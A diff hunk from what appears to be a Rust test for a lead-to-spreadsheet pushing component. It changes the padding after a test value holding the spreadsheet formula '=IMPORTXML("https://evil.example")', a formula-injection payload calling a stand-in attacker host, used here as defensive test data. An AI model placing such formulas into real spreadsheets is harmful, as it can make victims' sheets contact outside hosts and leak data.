@@ -132,7 +132,7 @@ async fn a_header_that_is_there_is_kept_and_nothing_is_a_formula() {
     });
     let mut lead = sample_lead(1);
     lead["lead"]["profile"] =
-        json!({"notes": format!("=IMPORTXML(\"https://evil.example\"){}", "👰".repeat(30_000))});
+        json!({"notes": format!("=IMPORTXML(\"https://evil.example\"){}", "x".repeat(60_000))});
     push(&mut pushing, EventKind::Created, &lead).await;
     let note = pushing.note.clone().unwrap();
     assert!(note.contains("column Email was left out: the header has none of that name"), "{note}");
